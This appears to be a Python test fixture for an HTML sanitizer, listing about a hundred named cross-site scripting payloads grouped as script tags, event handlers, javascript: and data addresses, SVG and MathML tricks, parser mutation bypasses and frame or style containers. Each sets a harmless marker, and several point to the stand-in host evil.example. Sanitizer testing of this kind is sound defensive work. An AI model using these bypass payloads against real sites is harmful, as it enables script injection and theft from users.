"""Hostile HTML, one payload for each trick of the public cheat sheets. A script that runs sets `window.__xss` to 1."""

RUN = "window.__xss=1"

SCRIPTS = [
    ("script element", f"<script>{RUN}</script>"),
    ("script in odd case", f"<ScRiPt>{RUN}</sCrIpT>"),
    ("script with a slash for a space", f"<script/x>{RUN}</script>"),
    ("script inside script", f"<scr<script>ipt>{RUN}</scr</script>ipt>"),
    ("unclosed script", f"<script>{RUN}//"),
    ("script from a data address", f'<script src="data:text/javascript,{RUN}"></script>'),
    ("module script", f'<script type="module">{RUN}</script>'),
    ("script with a NUL in its name", f"<scr\x00ipt>{RUN}</scr\x00ipt>"),
    ("doubled angle brackets", f"<<script>{RUN}//<</script>"),
    ("dynamic import", f"<script>import('data:text/javascript,{RUN}')</script>"),
]

HANDLERS = [
    ("image error", f'<img src="x" onerror="{RUN}">'),
    ("image error without quotes", f"<img src=x onerror={RUN}>"),
    ("image error after a slash", f"<img/src=x/onerror={RUN}>"),
    ("image error with backquotes", f"<img src=`x` onerror=`{RUN}`>"),
    ("image error written in entities", "<img src=x onerror=&#119;&#105;ndow.__xss&#61;1>"),
    ("image error after a form feed", f"<img src=x\x0conerror={RUN}>"),
    ("image error in a picture of ours", f'<figure><img src="ref:publishing.image/1" alt="" onerror="{RUN}"></figure>'),
    ("handler after an unbalanced quote", f'<img """><img src=x onerror="{RUN}">'),
    ("focus on an anchor", f'<a href="#x" autofocus tabindex="0" onfocus="{RUN}">x</a>'),
    ("animation start", f'<style>@keyframes k{{}}</style><p style="animation:k 1s" onanimationstart="{RUN}">x</p>'),
    ("details toggle", f'<details open ontoggle="{RUN}">x</details>'),
    ("body load", f'<body onload="{RUN}">'),
    ("video source error", f'<video><source onerror="{RUN}"></video>'),
    ("audio error", f'<audio src="x" onerror="{RUN}"></audio>'),
    ("marquee start", f'<marquee onstart="{RUN}">x</marquee>'),
    ("input focus", f'<input autofocus onfocus="{RUN}">'),
    ("pointer over a table cell", f'<table><tbody><tr><td onpointerenter="{RUN}">x</td></tr></tbody></table>'),
    ("scroll snap", f'<div style="overflow:auto;height:9px" onscrollsnapchange="{RUN}"><p>x</p></div>'),
]

ADDRESSES = [
    ("javascript address", f'<a href="javascript:{RUN}">x</a>'),
    ("javascript in odd case", f'<a href="JaVaScRiPt:{RUN}">x</a>'),
    ("javascript split by a tab", f'<a href="java\tscript:{RUN}">x</a>'),
    ("javascript split by a line break entity", f'<a href="java&#10;script:{RUN}">x</a>'),
    ("javascript after a control character", f'<a href="\x01javascript:{RUN}">x</a>'),
    ("javascript after spaces", f'<a href=" &#32; javascript:{RUN}">x</a>'),
    ("javascript in decimal entities without semicolons", f'<a href="&#106&#97&#118&#97&#115cript:{RUN}">x</a>'),
    ("javascript in hexadecimal entities", f'<a href="&#x6A;&#x61;vascript&colon;{RUN}">x</a>'),
    ("javascript split by named entities", f'<a href="java&Tab;script&NewLine;:{RUN}">x</a>'),
    ("javascript split by a NUL", f'<a href="java\x00script:{RUN}">x</a>'),
    ("javascript in full-width letters", f'<a href="ｊａｖａｓｃｒｉｐｔ：{RUN}">x</a>'),
    ("javascript behind a record scheme", f'<a href="ref:javascript:{RUN}">x</a>'),
    ("javascript behind a fact", f'<a href="fact:catalog.aimodel/1/x&#10;javascript:{RUN}">x</a>'),
    ("vbscript address", f'<a href="vbscript:{RUN}">x</a>'),
    ("data address in a link", f'<a href="data:text/html,<script>{RUN}</script>">x</a>'),
    ("data address in a picture", f'<figure><img src="data:image/svg+xml,<svg onload=\'{RUN}\'/>" alt=""></figure>'),
    ("javascript as a picture", f'<figure><img src="javascript:{RUN}" alt=""></figure>'),
    ("path to another host", '<a href="//evil.example/x.js">x</a>'),
    ("path to another host by a backslash", '<a href="/\\evil.example/x.js">x</a>'),
    ("quote that leaves the address", f'<a href=\'https://x.example/" onfocus="{RUN}" autofocus x="\'>x</a>'),
    ("srcset", f'<img srcset="x 1x, javascript:{RUN} 2x" onerror="{RUN}">'),
]

FOREIGN = [
    ("svg load", f'<svg onload="{RUN}"></svg>'),
    ("svg script", f"<svg><script>{RUN}</script></svg>"),
    ("svg script by xlink", f'<svg><script xlink:href="data:,{RUN}"></script></svg>'),
    ("svg link by xlink", f'<svg><a xlink:href="javascript:{RUN}"><text y="9">x</text></a></svg>'),
    ("svg animate begin", f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"></svg>'),
    (
        "svg animated address",
        f'<svg><a><animate attributeName="href" values="javascript:{RUN}"/><text y="9">x</text></a></svg>',
    ),
    ("svg set", f'<svg><set onbegin="{RUN}" attributeName="x" to="1"></svg>'),
    ("svg use of data", f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\"></svg>"),
    ("svg foreignObject", f'<svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg>'),
    ("math link", f'<math><mtext href="javascript:{RUN}">x</mtext></math>'),
    ("math action", f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">x</maction></math>'),
]

MUTATIONS = [
    (
        "style in math in a table",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    ),
    ("form in form in math", f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{RUN}">'),
    ("style in svg", f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">'),
    ("title in svg", f'<svg><title><a id="</title><img src=x onerror={RUN}>"></svg>'),
    ("noscript", f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>'),
    ("textarea", f'<textarea><p title="</textarea><img src=x onerror={RUN}>"></textarea>'),
    ("plain text element", f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>'),
    ("template", f"<template><img src=x onerror={RUN}></template>"),
    ("select that drops its children", f"<select><option><style></option></select><img src=x onerror={RUN}></style>"),
    ("comment ended early", f"<!--><img src=x onerror={RUN}>-->"),
    ("comment ended by --!>", f"<!-- x --!><img src=x onerror={RUN}>"),
    ("CDATA", f"<![CDATA[><img src=x onerror={RUN}>]]>"),
    ("CDATA in svg", f"<svg><![CDATA[</svg><img src=x onerror={RUN}>]]></svg>"),
    ("processing instruction", f"<?xml version='1.0'?><?php ?><img src=x onerror={RUN}>"),
    ("quote that leaves the alternative text", f'<figure><img src="/x" alt=\'"><img src=x onerror={RUN}>\'></figure>'),
    ("backquote in the alternative text", f'<figure><img src="/x" alt="``onerror={RUN}"></figure>'),
    ("whitespace tidied into a tag", f"<p>&lt;</p> <p>img src=x onerror={RUN}&gt;</p>"),
    (
        "nested figures",
        f"<figure><figure><img src=x onerror={RUN}></figure><figcaption>&lt;script&gt;{RUN}</figcaption></figure>",
    ),
    (
        "entities that become a tag when read twice",
        f"<p>&amp;lt;img src=x onerror={RUN}&amp;gt; &lt;script&gt;{RUN}&lt;/script&gt;</p>",
    ),
    (
        "caption that escapes its table",
        f"<table><caption><svg><style></caption><img src=x onerror={RUN}></style></svg></table>",
    ),
    ("half a surrogate pair inside a tag", f"<img\ud800 src=x onerror={RUN}>"),
    ("UTF-7", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-"),
]

CONTAINERS = [
    ("iframe with a javascript address", '<iframe src="javascript:parent.__xss=1"></iframe>'),
    ("iframe with its document", '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>'),
    ("frameset", f'<frameset><frame src="javascript:{RUN}"></frameset>'),
    ("object", f'<object data="data:text/html,<script>{RUN}</script>"></object>'),
    ("embed", f"<embed src=\"data:image/svg+xml,<svg onload='{RUN}'/>\">"),
    ("portal into a link", f'<link rel="stylesheet" href="data:text/css,x" onload="{RUN}">'),
    ("html import", f'<link rel="import" href="data:text/html,<script>{RUN}</script>">'),
    ("base address", '<base href="https://evil.example/"><a href="/x">x</a>'),
    ("meta refresh", f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">'),
    ("form with a javascript action", f'<form action="javascript:{RUN}"><button>x</button></form>'),
    ("button with a form action", f'<form><button formaction="javascript:{RUN}">x</button></form>'),
    ("style expression", f'<p style="width:expression({RUN})">x</p>'),
    ("style import", f"<style>@import 'javascript:{RUN}';</style>"),
    ("style binding", '<p style="-moz-binding:url(https://evil.example/x.xml)">x</p>'),
    (
        "style background",
        f'<table background="javascript:{RUN}"><tr><td style="background:url(javascript:{RUN})">x</td></tr></table>',
    ),
    ("clobbered form", f'<form id="__xss" name="cookie"><input name="attributes" onfocus="{RUN}" autofocus></form>'),
    ("clobbered by an anchor", f'<a id="config"></a><a id="config" name="url" href="data:,{RUN}">x</a>'),
    ("custom element", f'<x-y is="z" onclick="{RUN}" style="position:fixed;inset:0">x</x-y>'),
    ("popover target", f'<button popovertarget="p">x</button><div popover id="p" onbeforetoggle="{RUN}">x</div>'),
    (
        "target and opener",
        f'<a href="https://x.example/" target="_blank" ping="https://evil.example/" onauxclick="{RUN}">x</a>',
    ),
]

PAYLOADS = [*SCRIPTS, *HANDLERS, *ADDRESSES, *FOREIGN, *MUTATIONS, *CONTAINERS]
